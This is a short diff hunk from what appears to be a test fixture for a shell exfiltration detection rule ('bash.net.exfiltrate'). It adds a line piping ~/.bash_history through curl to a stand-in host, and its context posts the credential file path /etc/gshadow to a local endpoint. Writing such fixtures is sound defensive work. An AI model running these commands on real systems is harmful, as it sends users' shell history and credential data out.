@@ -43,3 +43,5 @@ send_post_request() {
 }
 body='/etc/gshadow'
 send_post_request "http://127.0.0.1:5758/submit" "$body"
+# ruleid: bash.net.exfiltrate
+cat ~/.bash_history | curl -F f=@- https://x.example/u
